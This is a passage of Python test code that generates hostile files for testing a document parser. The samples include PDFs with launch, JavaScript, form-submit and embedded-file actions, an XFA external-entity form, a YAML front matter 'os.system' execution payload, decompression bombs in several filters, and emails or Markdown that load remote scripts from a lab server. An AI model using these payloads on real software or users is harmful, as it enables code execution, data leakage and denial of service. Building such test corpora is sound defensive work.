        (b'<li class=nav><a href="#">menu</a>', 34 * sized(400_000, 9_000)),
    )


# PDF


def pdf(objects: Iterable[bytes], trailer: bytes = b"") -> bytes:
    """Return a PDF file of objects, numbered from 1, the first of which is its catalog."""
    data = bytearray(b"%PDF-1.7\n")
    starts = []
    for number, body in enumerate(objects, 1):
        starts.append(len(data))
        data += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = len(data)
    data += b"xref\n0 %d\n0000000000 65535 f \n" % (len(starts) + 1)
    data += b"".join(b"%010d 00000 n \n" % start for start in starts)
    data += b"trailer\n<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" % (
        len(starts) + 1,
        trailer,
        table,
    )
    return bytes(data)


def stream(data: bytes, more: bytes = b"") -> bytes:
    return b"<</Length %d%s>>stream\n%s\nendstream" % (len(data), more, data)


def flate(data: bytes, more: bytes = b"") -> bytes:
    return stream(data, b"/Filter/FlateDecode" + more)


def bomb(piece: bytes, size: int) -> bytes:
    packed = zlib.compressobj(9)
    many = piece * max(1, MB // len(piece))
    pieces = [packed.compress(many) for _ in range(size // len(many))]
    return b"".join([*pieces, packed.flush()])


FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
SHOWN = b"BT /F 12 Tf 72 700 Td (%s) Tj ET" % SAID.encode()


def one_page(
    content: bytes = b"", catalog: bytes = b"", leaf: bytes = b"", others: Iterable[bytes] = ()
) -> bytes:
    return pdf(
        [
            b"<</Type/Catalog/Pages 2 0 R%s>>" % catalog,
            b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Resources<</Font<</F 4 0 R>>/XObject<</X 6 0 R>>>>/Contents 5 0 R%s>>"
            % leaf,
            FONT,
            content or stream(SHOWN),
            *others,
        ]
    )


_ACTIONS: dict[str, Callable[[Lab], bytes]] = {
    "javascript": lambda lab: b"<</S/JavaScript/JS(app.launchURL('%s/js',true);)>>" % lab.url.encode(),
    "launch": lambda lab: b"<</S/Launch/F(/usr/bin/touch)/Win<</F(cmd)/P(/C calc)>>>>",
    "uri": lambda lab: b"<</S/URI/URI(%s/uri)>>" % lab.url.encode(),
    "go_to_file": lambda lab: b"<</S/GoToR/F(%s)/D[0/Fit]>>" % str(lab.secret).encode(),
    "submit": lambda lab: b"<</S/SubmitForm/F<</FS/URL/F(%s/submit)>>>>" % lab.url.encode(),
    "import": lambda lab: b"<</S/ImportData/F(%s)>>" % str(lab.secret).encode(),
}

for _name, _action in _ACTIONS.items():

    @hostile(f"action_{_name}.pdf")
    def _acting(lab: Lab, path: Path, action: Callable[[Lab], bytes] = _action) -> None:
        act = action(lab)
        note = (
            b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 600 700]/A %s/AA<</O %s/E %s>>>>]/AA<</O %s/C %s>>"
            % ((act,) * 5)
        )
        path.write_bytes(one_page(catalog=b"/OpenAction %s/AA<</WC %s/DC %s>>" % (act, act, act), leaf=note))


@hostile("holds_files.pdf")
def holds_files(lab: Lab, path: Path) -> None:
    held = [
        b"<<>>",
        b"<</Type/Filespec/F(evil.sh)/EF<</F 8 0 R>>>>",
        stream(b"touch evil", b"/Type/EmbeddedFile"),
    ]
    names = b"/Names<</EmbeddedFiles<</Names[(evil.sh)7 0 R]>>/JavaScript<</Names[(a)<</S/JavaScript/JS(app.alert(1))>>]>>>>"
    path.write_bytes(one_page(catalog=names, others=held))


@hostile("outer_stream.pdf")
def outer_stream(lab: Lab, path: Path) -> None:
    """The content of its page stands in another file."""
    outer = b"<</Length 0/F<</FS/URL/F(%s/stream)>>/FFilter/None>>stream\n\nendstream" % lab.url.encode()
    image = (
        b"<</Type/XObject/Subtype/Image/Width 9/Height 9/Length 0/F(%s)>>stream\n\nendstream"
        % str(lab.secret).encode()
    )
    path.write_bytes(one_page(leaf=b"/Contents[5 0 R 7 0 R]", others=[image, outer]))


@hostile("xfa.pdf")
def xfa(lab: Lab, path: Path) -> None:
    form = (
        f'<?xml version="1.0"?>{external(lab)}<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform>'
        f'<event activity="initialize"><script contentType="application/x-javascript">xfa.host.gotoURL("{lab.url}/xfa")</script>'
        "</event>&f;&h;</subform></template></xdp:xdp>"
    )
    path.write_bytes(
        one_page(
            catalog=b"/AcroForm<</XFA 6 0 R/Fields[]>>/NeedsRendering true", others=[stream(form.encode())]
        )
    )


@hostile("pages_in_a_circle.pdf", "damaged")
def circle(lab: Lab, path: Path) -> None:
    path.write_bytes(
        pdf([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R 2 0 R]/Count 4000>>",
             b"<</Type/Pages/Parent 2 0 R/Kids[2 0 R 3 0 R]/Count 4000>>"])
    )  # fmt: skip


@hostile("one_page_many_times.pdf", "damaged")
def many_times(lab: Lab, path: Path) -> None:
    """Twelve levels of ten times the same child: a million million pages."""
    levels = [
        b"<</Type/Pages/Kids[%s]/Count 1000000000>>" % (b"%d 0 R " % (number + 3) * 10)
        for number in range(12)
    ]
    path.write_bytes(pdf([b"<</Type/Catalog/Pages 2 0 R>>", *levels, b"<</Type/Page/MediaBox[0 0 9 9]>>"]))


@hostile("one_page_5000_times.pdf", "too_large" if TORTURE else "")
def page_5000_times(lab: Lab, path: Path) -> None:
    kids = b"3 0 R " * sized(5000, 500)
    letters = sized(300_000, 2_000)
    content = flate(zlib.compress(b"BT /F 1 Tf 9 9 Td " + b"(a b c d e) Tj " * (letters // 10) + b"ET"))
    path.write_bytes(
        pdf([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[%s]/Count %d>>" % (kids, len(kids) // 6),
             b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Resources<</Font<</F 4 0 R>>>>/Contents 5 0 R>>", FONT, content])
    )  # fmt: skip


@hostile("claims_100000_pages.pdf", "too_large")
def claims(lab: Lab, path: Path) -> None:
    path.write_bytes(one_page().replace(b"/Count 1>>", b"/Count 100000>>"))


@hostile("claims_no_page.pdf")
def claims_none(lab: Lab, path: Path) -> None:
    path.write_bytes(one_page().replace(b"/Count 1>>", b"/Count -5>>"))


@hostile("lies_of_its_length.pdf")
def lies(lab: Lab, path: Path) -> None:
    path.write_bytes(one_page().replace(b"/Length %d" % len(SHOWN), b"/Length 2147483647"))


@hostile("length_is_itself.pdf")
def length_itself(lab: Lab, path: Path) -> None:
    path.write_bytes(one_page().replace(b"/Length %d" % len(SHOWN), b"/Length 5 0 R"))


@hostile("flate_bomb.pdf", "too_large" if TORTURE else "empty")
def flate_bomb(lab: Lab, path: Path) -> None:
    path.write_bytes(one_page(flate(bomb(b" ", sized(2000, 60) * MB))))


@hostile("flate_bomb_of_operators.pdf", "too_large")
def flate_operators(lab: Lab, path: Path) -> None:
    path.write_bytes(one_page(flate(bomb(b"0 0 m 1 1 l S\n", sized(500, 300) * MB))))


@hostile("flate_in_flate.pdf", "too_large" if TORTURE else "empty")
def flate_in_flate(lab: Lab, path: Path) -> None:
    packed = zlib.compress(bomb(b" ", sized(1000, 60) * MB), 9)
    path.write_bytes(one_page(stream(packed, b"/Filter[/FlateDecode/FlateDecode]")))


@hostile("many_flate_bombs.pdf", "too_large" if TORTURE else "empty")
def many_bombs(lab: Lab, path: Path) -> None:
    piece = flate(bomb(b" ", 64 * MB))
    count = sized(50, 2)
    named = b" ".join(b"%d 0 R" % (number + 7) for number in range(count))
    path.write_bytes(one_page(leaf=b"/Contents[%s]" % named, others=[b"<<>>", *[piece] * count]))


@hostile("object_stream_bomb.pdf", "too_large" if TORTURE else "damaged")
def object_stream(lab: Lab, path: Path) -> None:
    held = b"2 0 "
    inner = zlib.compressobj(9)
    packed = inner.compress(held + b"<</Type/Pages/Kids[]/Count 1/A(")
    packed += (
        b"".join(inner.compress(b"a" * MB) for _ in range(sized(500, 300)))
        + inner.compress(b")>>")
        + inner.flush()
    )
    body = bytearray(b"%PDF-1.7\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n")
    at = len(body)
    body += b"3 0 obj\n%s\nendobj\n" % flate(packed, b"/Type/ObjStm/N 1/First 4")
    table = len(body)
    rows = b"".join(
        struct.pack(">BIH", *row) for row in [(0, 0, 65535), (1, 9, 0), (2, 3, 0), (1, at, 0), (1, table, 0)]
    )
    body += b"4 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF" % (
        stream(rows, b"/Type/XRef/W[1 4 2]/Size 5/Root 1 0 R"), table,
    )  # fmt: skip
    path.write_bytes(body)


@hostile("predictor_of_many_columns.pdf", "empty")
def predictor(lab: Lab, path: Path) -> None:
    more = b"/DecodeParms<</Predictor 15/Columns 2147483647/Colors 32/BitsPerComponent 16>>"
    path.write_bytes(one_page(flate(zlib.compress(SHOWN), more)))


@hostile("run_length_bomb.pdf", "empty")
def run_length(lab: Lab, path: Path) -> None:
    path.write_bytes(one_page(stream(b"\x81 " * sized(4 * MB, MB // 4), b"/Filter/RunLengthDecode")))


@hostile("lzw_bomb.pdf", "empty")
def lzw(lab: Lab, path: Path) -> None:
    """Codes of 9 to 12 bits, each one of which says all that the code before said and one space more."""
    bits, width, first = [f"{256:09b}"], 9, True
    code = 258
    for _ in range(sized(4096 * 100, 4096)):
        if code == 4095:
            bits.append(f"{256:012b}")
            width, code, first = 9, 258, True
        bits.append(
            f"{32 if first else code - 1:0{width}b}"
            if first
            else f"{code - 1 if code > 258 else 258:0{width}b}"
        )
        first = False
        code += 1
        width = min(12, max(9, (code + 1).bit_length()))
    whole = "".join(bits)
    packed = int(whole[: len(whole) // 8 * 8], 2).to_bytes(len(whole) // 8, "big")
    path.write_bytes(one_page(stream(packed, b"/Filter/LZWDecode")))


@hostile("image_of_many_pixels.pdf", "no_text")
def many_pixels(lab: Lab, path: Path) -> None:
    image = flate(
        bomb(b"\0", 100 * MB),
        b"/Type/XObject/Subtype/Image/Width 60000/Height 60000/BitsPerComponent 8/ColorSpace/DeviceRGB",
    )
    path.write_bytes(one_page(stream(b"q 600 0 0 700 0 0 cm /X Do Q"), others=[image]))


@hostile("form_draws_itself.pdf", "too_large")
def draws_itself(lab: Lab, path: Path) -> None:
    own = b"/Type/XObject/Subtype/Form/BBox[0 0 600 700]/Resources<</XObject<</X 6 0 R>>/Font<</F 4 0 R>>>>"
    path.write_bytes(one_page(stream(SHOWN + b" /X Do"), others=[stream(b"/X Do /X Do", own)]))


@hostile("forms_draw_forms.pdf", "too_large")
def draw_forms(lab: Lab, path: Path) -> None:
    """Ten times ten times ten: a form that draws a form ten times, over and over."""
    deep = sized(10, 5)
    forms = [
        stream(
            b"/X Do " * 10,
            b"/Type/XObject/Subtype/Form/BBox[0 0 600 700]/Resources<</XObject<</X %d 0 R>>>>" % (number + 7),
        )
        for number in range(deep)
    ]
    last = stream(SHOWN, b"/Type/XObject/Subtype/Form/BBox[0 0 600 700]/Resources<</Font<</F 4 0 R>>>>")
    path.write_bytes(one_page(stream(SHOWN + b" /X Do"), others=[*forms, last]))


@hostile("tables_of_contents_in_a_circle.pdf")
def xref_circle(lab: Lab, path: Path) -> None:
    data = one_page()
    table = int(re.findall(rb"startxref\n(\d+)", data)[-1])
    path.write_bytes(data.replace(b"/Root 1 0 R", b"/Root 1 0 R/Prev %d/XRefStm %d" % (table, table)))


@hostile("table_of_contents_of_millions.pdf")
def xref_millions(lab: Lab, path: Path) -> None:
    data = one_page()
    path.write_bytes(
        re.sub(rb"xref\n0 \d+", b"xref\n0 4000000000", data, count=1).replace(b"/Size 6", b"/Size 4000000000")
    )


@hostile("nested_arrays.pdf")
def nested_arrays(lab: Lab, path: Path) -> None:
    deep = sized(2_000_000, 100_000)
    path.write_bytes(one_page(catalog=b"/A " + b"[" * deep + b"]" * deep, others=[b"<</A" * deep]))


@hostile("nested_content.pdf")
def nested_content(lab: Lab, path: Path) -> None:
    deep = sized(2_000_000, 100_000)
    path.write_bytes(one_page(stream(SHOWN + b" " + b"[" * deep + b" " + b"<<" * deep + b"q " * deep)))


@hostile("many_operators.pdf")
def operators(lab: Lab, path: Path) -> None:
    content = SHOWN + b" " + b"0 0 9 9 re f " * sized(1_000_000, 20_000)
    path.write_bytes(one_page(flate(zlib.compress(content, 9))))


@hostile("most_letters.pdf")
def most_letters(lab: Lab, path: Path) -> None:
    lines = b"".join(
        b"1 0 0 1 %d %d Tm (ab) Tj " % (n * 7 % 590, n * 13 % 780) for n in range(sized(240_000, 10_000))
    )
    path.write_bytes(one_page(flate(zlib.compress(b"BT /F 1 Tf " + lines + b"ET", 9))))


@hostile("too_many_letters.pdf", "too_large")
def too_many_letters(lab: Lab, path: Path) -> None:
    content = b"BT /F 1 Tf 9 9 Td " + b"(%s) Tj " % (b"abcd " * 200) * sized(8_000, 1_100) + b"ET"
    path.write_bytes(one_page(flate(zlib.compress(content, 9))))


@hostile("annotations.pdf")
def many_annotations(lab: Lab, path: Path) -> None:
    count = sized(50_000, 1_000)
    shown = stream(
        b"BT /F 9 Tf (note) Tj ET",
        b"/Type/XObject/Subtype/Form/BBox[0 0 99 99]/Resources<</Font<</F 4 0 R>>>>",
    )
    notes = b"<</Type/Annot/Subtype/Stamp/Rect[9 9 99 99]/AP<</N 6 0 R>>>>" * count
    path.write_bytes(one_page(leaf=b"/Annots[%s]" % notes, others=[shown]))


@hostile("character_map_of_many.pdf")
def character_map(lab: Lab, path: Path) -> None:
    many = b"1 beginbfrange <0000> <FFFF> <0041> endbfrange\n" * sized(20_000, 100)
    font = b"<</Type/Font/Subtype/Type0/BaseFont/A/Encoding/Identity-H/ToUnicode 6 0 R/DescendantFonts[<</Type/Font/Subtype/CIDFontType2/BaseFont/A>>]>>"
    data = one_page(stream(b"BT /F 12 Tf 72 700 Td <00410042> Tj ET"), others=[flate(zlib.compress(many, 9))])
    path.write_bytes(data.replace(FONT, font))


@hostile("broken_at_random.pdf", "damaged")
def broken(lab: Lab, path: Path) -> None:
    path.write_bytes(b"%PDF-1.7\n" + random.Random(7).randbytes(sized(50 * MB, MB)))


@hostile("all_objects.pdf", "damaged")
def all_objects(lab: Lab, path: Path) -> None:
    """No table of contents: what reads it looks for each object."""
    write(path, b"%PDF-1.7\n", (b"1 0 obj<<>>", sized(200 * MB, 5 * MB)))


# E-mail


def mail(*lines: str) -> bytes:
    return "\n".join(["From: a@example.org", "Subject: Ferries", "MIME-Version: 1.0", *lines]).encode()


@hostile("nested_parts.eml", "too_large")
def nested_parts(lab: Lab, path: Path) -> None:
    count = sized(100_000, 5_000)
    parts = "".join(f'--{n}\nContent-Type: multipart/mixed; boundary="{n + 1}"\n\n' for n in range(count))
    path.write_bytes(mail('Content-Type: multipart/mixed; boundary="0"', "", parts))


@hostile("nested_parts_of_many_lines.eml", "too_large")
def nested_many_lines(lab: Lab, path: Path) -> None:
    parts = "".join(f'--{n}\nContent-Type: multipart/mixed; boundary="{n + 1}"\n\n' for n in range(300))
    write(
        path,
        mail('Content-Type: multipart/mixed; boundary="0"', "", parts, ""),
        (b"-- a\n", sized(60 * MB, 2 * MB)),
    )


@hostile("messages_in_messages.eml", "too_large")
def messages(lab: Lab, path: Path) -> None:
    path.write_bytes(
        mail("").rstrip() + b"\n" + b"Content-Type: message/rfc822\n\n" * sized(10_000, 2_000) + SAID.encode()
    )


@hostile("large_attachment.eml", "too_large")
def large_attachment(lab: Lab, path: Path) -> None:
    line = base64.encodebytes(b"x" * 57)
    write(
        path,
        mail("Content-Type: application/zip", "Content-Transfer-Encoding: base64", "", ""),
        (line, sized(200 * MB, 65 * MB)),
    )


@hostile("largest_attachment.eml")
def largest_attachment(lab: Lab, path: Path) -> None:
    line = base64.encodebytes(b"x" * 57)
    start = mail('Content-Type: multipart/mixed; boundary="0"', "", "--0", "", SAID, "--0", 'Content-Type: application/zip; name="a.zip"',
                 "Content-Transfer-Encoding: base64", "", "")  # fmt: skip
    write(path, start, (line, sized(63 * MB, 2 * MB)), b"\n--0--\n")


@hostile("long_header.eml")
def long_header(lab: Lab, path: Path) -> None:
    write(
        path,
        b"Subject: ",
        (b"=?utf-8?q?a?= ", 10 * MB),
        b"\nTo: ",
        (b'"a" <(, ', 10 * MB),
        b"\nFrom: a@b\n\n" + SAID.encode(),
    )


@hostile("many_headers.eml", "too_large" if TORTURE else "")
def many_headers(lab: Lab, path: Path) -> None:
    write(path, b"From: a@b\n", (b"a:=?x?q?b?=\n", sized(60 * MB, MB // 2 // 12 * 12)), b"\n" + SAID.encode())


@hostile("many_names_of_headers.eml")
def many_names(lab: Lab, path: Path) -> None:
    lines = "".join(f"x{n}: =?utf-8?q?b?= c\n" for n in range(sized(900_000, 10_000)))
    path.write_bytes(b"From: a@b\n" + lines.encode() + b"\n" + SAID.encode())


@hostile("many_lines.eml", "too_large" if TORTURE else "")
def many_lines(lab: Lab, path: Path) -> None:
    write(path, mail("", SAID, ""), (b"\n", sized(63 * MB, 100_000)))


@hostile("many_parts.eml", "too_large" if TORTURE else "")
def many_parts(lab: Lab, path: Path) -> None:
    write(
        path,
        mail('Content-Type: multipart/mixed; boundary="0"', "", ""),
        (b"--0\n\na\n", 7 * sized(9_000_000, 10_000)),
    )


@hostile("parameters.eml")
def parameters(lab: Lab, path: Path) -> None:
    write(
        path,
        b"From: a@b\nContent-Type: text/plain",
        (b'; a*0="\\"', sized(10 * MB, 200_000)),
        b"\n\n" + SAID.encode(),
    )


@hostile("address_brackets.eml")
def address_brackets(lab: Lab, path: Path) -> None:
    pieces = [b'"a', b"(", b"<", b"a,", b"@", b"[", b"\\", b":;", b'" "']
    write(path, b"From: a@b\n", *(each for piece in pieces for each in (b"To: ", (piece, 60_000), b"\nCc: ", (piece, 60_000), b"\n")), b"\n" + SAID.encode())  # fmt: skip


@hostile("uuencoded.eml")
def uuencoded(lab: Lab, path: Path) -> None:
    write(path, mail("Content-Transfer-Encoding: uuencode", "", ""), (b"begin 644 a\n", sized(17 * MB, MB)))


@hostile("quoted_printable.eml")
def quoted_printable(lab: Lab, path: Path) -> None:
    write(path, mail("Content-Transfer-Encoding: quoted-printable", "", ""), (b"=3D=\n", sized(5 * MB, MB)))


@hostile("html_mail.eml")
def html_mail(lab: Lab, path: Path) -> None:
    path.write_bytes(
        mail(
            "Content-Type: text/html",
            "",
            f'<p>{SAID}</p><img src="{lab.url}/mail"><script src="{lab.url}/s"></script>',
        )
    )


@hostile("outer_body.eml", "empty")
def outer_body(lab: Lab, path: Path) -> None:
    path.write_bytes(
        mail(
            f'Content-Type: message/external-body; access-type=URL; URL="{lab.url}/body"',
            "",
            "Content-Type: text/plain",
            "",
            "",
        )
    )


@hostile("endless_line.mbox", "damaged")
def endless_line(lab: Lab, path: Path) -> None:
    write(path, (b"a", sized(50 * MB, 5 * MB)))


@hostile("endless_line_of_a_message.mbox")
def endless_message(lab: Lab, path: Path) -> None:
    write(path, b"From a@b\nSubject: x\n\n", (b"a ", sized(50 * MB, 5 * MB)))


@hostile("almost_messages.mbox", "empty")
def almost_messages(lab: Lab, path: Path) -> None:
    line = b"\nFrom " + b"1:11 2020 " * 98 + b"\n"
    write(path, b"From a@b\nSubject: x\n\n", (line, sized(400 * MB, 67 * MB)))


@hostile("large_attachment.mbox", "empty")
def large_in_mbox(lab: Lab, path: Path) -> None:
    line = base64.encodebytes(b"x" * 57)
    write(path, b"From a@b\nSubject: x\n\n", (line, sized(200 * MB, 65 * MB)))


# Tables and records


@hostile("one_line.csv", "too_large")
def one_line_csv(lab: Lab, path: Path) -> None:
    write(path, (b"word,", sized(100 * MB, 20 * MB)))


@hostile("one_cell.csv", "too_large")
def one_cell(lab: Lab, path: Path) -> None:
    write(path, b"a,b\n", (b"word ", sized(15 * MB, MB)), b"\n")


@hostile("million_columns.csv", "too_large")
def million_columns(lab: Lab, path: Path) -> None:
    write(path, (b"a,", 2_000_000), b"a\n", (b"1,", 2_000_000))


@hostile("six_rows_of_millions.csv", "too_large")
def six_rows(lab: Lab, path: Path) -> None:
    line: list[bytes | tuple[bytes, int]] = [(b"bc,", sized(15 * MB, 2 * MB)), b"\n"]
    write(path, *line * 6)


@hostile("columns_of_one_name.csv")
def one_name(lab: Lab, path: Path) -> None:
    write(path, (b"a,", 2 * sized(16_000, 4_000)), b"a\n", (b"1,", 2 * sized(16_000, 4_000)), b"1\n")


@hostile("long_head.csv", "too_large")
def long_head(lab: Lab, path: Path) -> None:
    """Each row stands under its head, which is long."""
    head = b",".join(b"%d" % n + b"h" * 900 for n in range(sized(16_000, 8_000)))
    write(path, head, b"\n", (b"x,y\n", 4 * 20_000))


@hostile("widening.csv", "too_large" if TORTURE else "")
def widening(lab: Lab, path: Path) -> None:
    with path.open("wb") as stream:
        stream.write(b"a,b\n")
        for width in range(3, sized(16_000, 1_000), sized(2, 2)):
            stream.write(b"," * width + b"x\n")


@hostile("row_of_many_lines.csv", "too_large")
def row_of_many_lines(lab: Lab, path: Path) -> None:
    line = b'"' + b"x" * 90_000 + b'\n",'
    write(path, b"a,b\n", (line, len(line) * sized(10_000, 400)))


@hostile("quotes.csv", "damaged")
def csv_quotes(lab: Lab, path: Path) -> None:
    write(path, b'a,b\n1,"', (b'""', sized(15 * MB, 2 * MB)))


@hostile("many_rows.csv", "too_large" if TORTURE else "")
def many_rows(lab: Lab, path: Path) -> None:
    write(path, b"a,b\n", (b"1,2\n", 4 * sized(10_000_000, 10_000)))


@hostile("deep.json", "damaged")
def deep_json(lab: Lab, path: Path) -> None:
    write(path, (b"[", 1_000_000), (b"]", 1_000_000))


@hostile("deep_objects.json", "damaged")
def deep_objects(lab: Lab, path: Path) -> None:
    write(path, (b'{"a":', 5 * sized(1_000_000, 100_000)), b"1", (b"}", sized(1_000_000, 100_000)))


@hostile("deep_line.jsonl", "damaged")
def deep_line(lab: Lab, path: Path) -> None:
    write(path, b'{"text":"a","x":', (b"[", 1_000_000), (b"]", 1_000_000), b"}\n")


@hostile("long_number.json")
def long_number(lab: Lab, path: Path) -> None:
    write(
        path,
        b'[{"text":"' + SAID.encode() + b'","n":',
        (b"9", 10_000_000),
        b',"f":1.',
        (b"9", 10_000_000),
        b',"e":1e',
        (b"9", MB),
        b"}]",
    )


@hostile("one_line.jsonl", "too_large")
def one_line_jsonl(lab: Lab, path: Path) -> None:
    write(path, b'{"text":"', (b"word ", sized(100 * MB, 20 * MB)), b'"}')


@hostile("empty_lists.json", "too_large")
def empty_lists(lab: Lab, path: Path) -> None:
    write(path, b'[{"text":"a","x":[', (b"[],", 3 * sized(80_000_000, 4_000_000)), b"[]]}]")


@hostile("empty_lists_line.jsonl")
def empty_lists_line(lab: Lab, path: Path) -> None:
    write(path, b'{"text":"a","x":[', (b"[],", 3 * sized(5_000_000, 500_000)), b"[]]}")


@hostile("names_that_stand_twice.json")
def names_twice(lab: Lab, path: Path) -> None:
    write(
        path, b'[{"text":"a"', *((f',"{n}":1,"{n}":2'.encode()) for n in range(sized(200_000, 5_000))), b"}]"
    )


@hostile("number_of_many_digits.csv")
def csv_digits(lab: Lab, path: Path) -> None:
    write(path, b"a,b\n", b"1,", (b"9", 120_000), b"\n1,", (b"9", 120_000), b"e9\n")


# Notebooks and source code


@hostile("large_output.ipynb")
def large_output(lab: Lab, path: Path) -> None:
    start = json.dumps({"cell_type": "markdown", "source": SAID})
    write(path, f'{{"cells":[{start},{{"cell_type":"code","source":"print()","outputs":[{{"output_type":"stream","name":"stdout","text":"'.encode(),
          (b"word ", sized(90 * MB, 10 * MB)), b'"}]}]}')  # fmt: skip


@hostile("large_picture.ipynb")
def large_picture(lab: Lab, path: Path) -> None:
    start = json.dumps({"cell_type": "markdown", "source": SAID})
    write(path, f'{{"cells":[{start},{{"cell_type":"code","source":"print()","outputs":[{{"output_type":"display_data","data":{{"image/png":"'.encode(),
          (b"QUJD", sized(90 * MB, 10 * MB)), b'"}}]}]}')  # fmt: skip


@hostile("empty_lists.ipynb", "too_large")
def lists_ipynb(lab: Lab, path: Path) -> None:
    write(path, b'{"cells":[', (b"[],", 3 * sized(80_000_000, 4_000_000)), b"[]]}")


@hostile("deep.ipynb", "damaged")
def deep_ipynb(lab: Lab, path: Path) -> None:
    write(path, b'{"cells":', (b"[", 1_000_000))


@hostile("open_fences.ipynb")
def open_fences(lab: Lab, path: Path) -> None:
    cells = [{"cell_type": "markdown", "source": "```<!-- <pre> ~~~" + "<a " * 50}] * sized(5_000, 200)
    path.write_text(json.dumps({"cells": cells}))


@hostile("backticks.ipynb")
def backticks(lab: Lab, path: Path) -> None:
    cells = [{"cell_type": "markdown", "source": ("[" * 40 + "`" * 30 + "<!--") * sized(2_000, 100)}]
    path.write_text(json.dumps({"cells": cells}))


@hostile("one_line.py", "too_large")
def one_line_py(lab: Lab, path: Path) -> None:
    write(path, (b"x", 50 * MB))


@hostile("largest_line.c")
def largest_line(lab: Lab, path: Path) -> None:
    write(path, (b"int a(", sized(7 * MB, MB)))


@hostile("nested_brackets.py")
def nested_brackets(lab: Lab, path: Path) -> None:
    write(path, b"x = ", (b"(", 1_000_000), (b")", 1_000_000))


@hostile("nested_brackets_that_are_parsed.py")
def parsed_brackets(lab: Lab, path: Path) -> None:
    write(path, b"x = ", (b"(", 500_000), b"1", (b")", 500_000))


@hostile("nested_operators.py")
def nested_operators(lab: Lab, path: Path) -> None:
    write(path, b"x = ", (b"-", 900_000), b"1")


@hostile("chained_operators.py")
def chained(lab: Lab, path: Path) -> None:
    write(path, b"x = 1", (b"+1", 900_000))


@hostile("chained_attributes.py")
def chained_attributes(lab: Lab, path: Path) -> None:
    write(path, b"x = a", (b".b", 900_000))


@hostile("chained_ifs.py")
def chained_ifs(lab: Lab, path: Path) -> None:
    write(path, b"if a: b\n", (b"elif a: b\n", 10 * 90_000))


@hostile("many_lists.py")
def many_lists(lab: Lab, path: Path) -> None:
    write(path, b"x = [", (b"[],", sized(1_000_000, 100_000)), b"]")


@hostile("deep_indentation.py")
def deep_indentation(lab: Lab, path: Path) -> None:
    path.write_text("".join(f"{' ' * n}if a:\n" for n in range(1400)) + " " * 1401 + "b\n")


@hostile("deep_functions.js")
def deep_functions(lab: Lab, path: Path) -> None:
    path.write_text("".join(f"{' ' * n}class A{n} {{\n" for n in range(sized(1_900, 500))))


@hostile("many_functions.c")
def many_functions(lab: Lab, path: Path) -> None:
    write(path, (b"int a(int b)\n{\n}\n\n", sized(4 * MB, 100_000)))


@hostile("open_comments.c")
def open_comments(lab: Lab, path: Path) -> None:
    write(path, (b"*/\nint a(int b,\n", sized(7 * MB, 100_000)))


@hostile("almost_definitions.ts")
def almost(lab: Lab, path: Path) -> None:
    lines = [b"public static " * 20, b"export " * 40 + b"=", b"a<" * 140, b"impl " + b"a " * 140, b"@a " * 90, b"(" * 290,
             b"const a = " + b"b." * 140, b"a " * 140 + b"("]  # fmt: skip
    write(path, *([b"\n".join(lines) + b"\n"] * sized(3_000, 200)))


# Text


@hostile("one_line.txt")
def one_line_txt(lab: Lab, path: Path) -> None:
    write(path, (b"word ", sized(90 * MB, 5 * MB)))


@hostile("one_wide_letter.txt")
def wide_letter(lab: Lab, path: Path) -> None:
    write(path, (b"word ", sized(90 * MB, 5 * MB)), "😀".encode())


@hostile("no_encoding.txt")
def no_encoding(lab: Lab, path: Path) -> None:
    write(path, (b"\xe4 word \xfc ", sized(90 * MB, 2 * MB)))


@hostile("noise.txt", "binary")
def noise(lab: Lab, path: Path) -> None:
    path.write_bytes(random.Random(7).randbytes(sized(50 * MB, MB)))


@hostile("noise_without_nul.txt", "binary")
def noise_without(lab: Lab, path: Path) -> None:
    path.write_bytes(
        random.Random(7).randbytes(sized(50 * MB, MB)).translate(bytes(max(n, 32) for n in range(256)))
    )


@hostile("front_matter.md")
def front_matter(lab: Lab, path: Path) -> None:
    names = "".join(f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]\n" for n in range(1, 12))
    path.write_text(f"---\na0: &a0 lol\n{names}---\n{SAID}\n")


@hostile("front_matter_runs.md")
def front_matter_runs(lab: Lab, path: Path) -> None:
    path.write_text(f'---\na: !!python/object/apply:os.system ["touch {lab.folder}/evil"]\n---\n{SAID}\n')


@hostile("front_matter_without_an_end.md", "too_large" if TORTURE else "")
def no_end_of_front(lab: Lab, path: Path) -> None:
    write(path, b"---\n", (b"--\n---x\n", sized(30 * MB, MB)))


@hostile("brackets.md")
def brackets(lab: Lab, path: Path) -> None:
    write(path, (b"[", sized(MB, 50_000)), b"\n\n", (b"> ", 100_000), b"\n\n", (b"*a_", sized(MB, 50_000)))


@hostile("outer_picture.md")
def outer_picture(lab: Lab, path: Path) -> None:
    path.write_text(f'{SAID}\n\n![a]({lab.url}/md.png)\n\n<script src="{lab.url}/md.js"></script>\n')
